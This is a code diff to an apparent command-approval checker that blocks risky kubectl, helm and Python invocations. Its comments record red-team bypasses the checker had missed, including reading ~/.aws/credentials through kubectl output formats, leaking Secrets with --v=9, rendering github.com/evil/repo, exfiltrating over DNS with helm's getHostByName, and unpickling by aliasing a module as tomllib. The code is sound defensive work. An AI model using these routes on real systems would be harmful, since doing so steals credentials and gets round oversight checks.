@@ -3964,6 +3964,10 @@ _KUBECTL_FLAGS = frozenset({"-A", "--all-namespaces", "--show-labels", "--no-hea
 # (probe round 33, redteam33b: custom-columns-file=F reads F, its first line printed as the
 # headers: -o custom-columns-file=~/.aws/credentials)
 _KUBECTL_FILE_FORMATS = ("go-template-file", "jsonpath-file", "template-file", "templatefile", "custom-columns-file")
+# (probe round 36, loosen36) kubectl's log verbosity: from 8 on, client-go logs each response
+# body (kubectl describe secret db --v=9 printed the Secret's data describe leaves out, diff
+# --v=9 the live Secrets diff masks); up to 7, URLs and headers with the token masked
+_KUBECTL_QUIET_V = re.compile(r"[0-7]")
 
 
 # (probe round 35, benign40) kubectl's renders and comparisons of manifests: kustomize DIR
@@ -4025,6 +4029,16 @@ def _project_relative(path: str) -> bool:
     return bool(path) and not path.startswith(("/", "~", "$", "-")) and ".." not in path.split("/")
 
 
+def _kustomize_local(path: str) -> bool:
+    """(probe round 36, loosen36) a kustomization directory of the project, not a remote
+    one: kustomize takes a path that is no local directory for a repository to clone
+    (github.com/x/y, git@host:x/y, gh:x/y, a ?ref= query), so kubectl kustomize
+    github.com/evil/repo and apply -k of it rendered a stranger's repository with the
+    build's trust, where kustomize build of it is asked (_KUSTOMIZE_REMOTE)"""
+    return _project_relative(path) and _KUSTOMIZE_REMOTE.match(path) is None \
+        and not any(c in path for c in ":?@,")
+
+
 def _kubectl_render(args: Sequence[str], build: bool = False) -> bool:
     """``build``: kustomize and -k/--kustomize render the project's kustomization (its remote
     resources fetched, its generators run): the build's trust, as kustomize build has."""
@@ -4036,7 +4050,7 @@ def _kubectl_render(args: Sequence[str], build: bool = False) -> bool:
         return [a for a in rest if a.startswith("--dry-run")] == ["--dry-run=client"] and _kubectl_generated(rest)
     if verb == "kustomize":
         return all(not a.startswith("-") for a in rest) and len(rest) <= 1 and not any("://" in a for a in rest) \
-            and all(_project_relative(a) for a in rest)
+            and all(_kustomize_local(a) for a in rest)
     dry = [a for a in rest if a.startswith("--dry-run")]
     if verb in ("apply", "create"):
         if dry not in (["--dry-run=client"], ["--dry-run=server"]):
@@ -4045,6 +4059,7 @@ def _kubectl_render(args: Sequence[str], build: bool = False) -> bool:
     elif verb != "diff" or dry:
         return False
     valued, i, given = _KUBECTL_RENDER_VALUED | ({"-o", "--output"} if verb != "diff" else set()), 0, False
+    roots: list[str] = []
     while i < len(rest):
         name, eq, value = rest[i].partition("=")
         if name in valued:
@@ -4052,15 +4067,42 @@ def _kubectl_render(args: Sequence[str], build: bool = False) -> bool:
                 i += 1
                 value = rest[i] if i < len(rest) else ""
             if name in ("-f", "--filename", "-k", "--kustomize"):
-                if "://" in value or not _project_relative(value):
+                if "://" in value or not _project_relative(value) \
+                        or (name in ("-k", "--kustomize") and not _kustomize_local(value)) \
+                        or (name in ("-f", "--filename") and not all(_kubectl_file_ok(f) for f in value.split(","))):
                     return False
                 given = True
-            if name in ("-o", "--output") and value not in ("yaml", "json", "name", "wide"):
+                roots.append(value)
+            if name in ("-o", "--output") and value not in (("name",) if verb == "apply" else ("yaml", "json", "name", "wide")):
+                # (probe round 36, loosen36) apply's dry run prints the object it would leave:
+                # the live one with the file's fields merged in (a Secret's other keys too, as
+                # kubectl get secret -o yaml prints them); its name only. create's is the file's
+                return False
+            if name in ("-v", "--v") and not _KUBECTL_QUIET_V.fullmatch(value):
                 return False
         elif rest[i] not in _KUBECTL_RENDER_FLAGS or rest[i] == "--load-restrictor":
             return False
         i += 1
+    if any(a in ("-R", "--recursive") for a in rest) and any(r.rstrip("/") in (".", "") for r in roots):
+        # (probe round 36, loosen36) -R over the project's root visits every hidden directory
+        # (.docker/config.json, .vscode): a file of them that is no manifest is printed whole
+        # in the error (Object 'Kind' is missing in '{...}'), as grep -r '' . prints it
+        return False
     return given
+
+
+def _kubectl_file_ok(path: str) -> bool:
+    """(probe round 36, loosen36) one file of -f's list (kubectl splits the value at commas:
+    -f k8s/a.yaml,../x.yaml named a file outside unseen), of the project, and a pattern only
+    as kubectl's own directory walk reads: wildcards in the last part, which ends .yaml, .yml
+    or .json (kubectl globs with Go, whose * matches a leading dot: -f '*' read .env and printed
+    it in the error about its missing Kind)."""
+    if not path or "://" in path or not _project_relative(path):
+        return False
+    *dirs, last = path.split("/")
+    if any(c in "".join(dirs) for c in "*?[\\"):
+        return False
+    return not any(c in last for c in "*?[\\") or last.endswith((".yaml", ".yml", ".json"))
 
 
 def _kubectl(args: Sequence[str], unknown: bool) -> bool:
@@ -4088,6 +4130,8 @@ def _kubectl(args: Sequence[str], unknown: bool) -> bool:
             if not eq:
                 i += 1
                 value = args[i] if i < len(args) else ""
+            if name in ("-v", "--v") and not _KUBECTL_QUIET_V.fullmatch(value):
+                return False
             if name in ("-o", "--output") and (value.split("=", 1)[0] in _KUBECTL_FILE_FORMATS
                                                or projects_secret(value.partition("=")[2])):
                 return False   # (-o jsonpath='{..env[?(@.name=="DB_PASSWORD")].value}': a secret field)
@@ -4132,11 +4176,36 @@ _HELM_TEMPLATE_FLAGS = frozenset({"--include-crds", "--skip-crds", "--skip-tests
                                   "--is-upgrade", "--release-name", "--generate-name", "-g", "--disable-openapi-validation"})
 
 
+# (probe round 36, loosen36) --name-template is a Go template run with all of sprig's
+# functions (helm's TemplateName: env, expandenv, getHostByName, a DNS query that carries
+# what it is given out): a name template of these functions only, on no variable
+_HELM_NAME_TEMPLATE_FUNCS = frozenset({"randAlpha", "randAlphaNum", "randNumeric", "lower", "upper", "trunc",
+                                       "now", "date", "printf", "replace", "trimSuffix", "trimPrefix", "quote",
+                                       "substr", "nospace", "shuffle"})
+_GO_TEMPLATE_ACTION = re.compile(r"\{\{(.*?)\}\}", re.S)
+_GO_TEMPLATE_WORD = re.compile(r"[A-Za-z_$.][\w.$]*")
+_GO_TEMPLATE_STRING = re.compile(r'"[^"\\]*"|`[^`]*`')
+
+
+def _helm_name_template_ok(value: str) -> bool:
+    if "{{" not in value:
+        return True
+    for m in _GO_TEMPLATE_ACTION.finditer(value):
+        body = _GO_TEMPLATE_STRING.sub(" ", m.group(1).strip().strip("-"))
+        if any(w not in _HELM_NAME_TEMPLATE_FUNCS for w in _GO_TEMPLATE_WORD.findall(body)):
+            return False
+    return _GO_TEMPLATE_ACTION.sub("", value).count("{{") == 0
+
+
 def _helm_template(args: Sequence[str]) -> bool:
     for i, a in enumerate(args):
         name, eq, value = a.partition("=")
-        if name in ("-f", "--values"):
+        if name in ("-f", "--values", "--name-template"):
             value = value if eq else (args[i + 1] if i + 1 < len(args) else "")
+            if name == "--name-template":
+                if not _helm_name_template_ok(value):
+                    return False
+                continue
             if "://" in value or not _project_relative(value):
                 return False
     ops = _allowed_operands(args, _HELM_TEMPLATE_VALUED, _HELM_TEMPLATE_FLAGS)
@@ -6843,7 +6912,12 @@ _PY_PRINT = re.compile(r"print\s*\((.*)\)")
 _PROBE_VALUE = re.compile(rf"({_PY_DOTTED})(\(\s*\))?")
 # names the grammar reads as Python's own: bound to something else (from os import remove as
 # open, import pickle as json: its load runs what the file holds), the probe is another call
-_PY_GRAMMAR_NAMES = frozenset({"print", "open", "json"})
+# (probe round 36, loosen36: tomllib and tomli too, the -c grammar's TOML read; import
+# pickle as tomllib made tomllib.load(open("x.toml", "rb")) unpickle, code run from a file)
+_PY_GRAMMAR_NAMES = frozenset({"print", "open", "json", "tomllib", "tomli"})
+# a module bound to a name the grammar reads as its kin (import simplejson as json, import
+# tomli as tomllib: the backport under the standard name)
+_PY_GRAMMAR_KIN = frozenset({("simplejson", "json"), ("tomli", "tomllib"), ("tomllib", "tomli")})
 _PY_UNSHADOWED = frozenset({"sys"})   # built into the interpreter: no file on the path can stand in for it
 _NODE_GLOBAL = re.compile(r"process\.(?:version|versions|platform|arch|release|features|config)(?:\.[A-Za-z_]\w*)*")
 # (a package's name, or a path inside the project: ./lib/x; never /tmp/x, ~ or ..)
@@ -6916,7 +6990,7 @@ def _python_probe(code: str) -> int:
             for item in m.group(1).split(","):
                 mod, _, alias = (x.strip() for x in item.partition(" as "))
                 if _PY_ACTING_MODULE.search(mod) or (alias in _PY_GRAMMAR_NAMES and alias != mod
-                                                     and (mod, alias) != ("simplejson", "json")):
+                                                     and (mod, alias) not in _PY_GRAMMAR_KIN):
                     return 0
                 imported.add(mod.split(".")[0])
                 bound.add(alias or mod.split(".")[0])
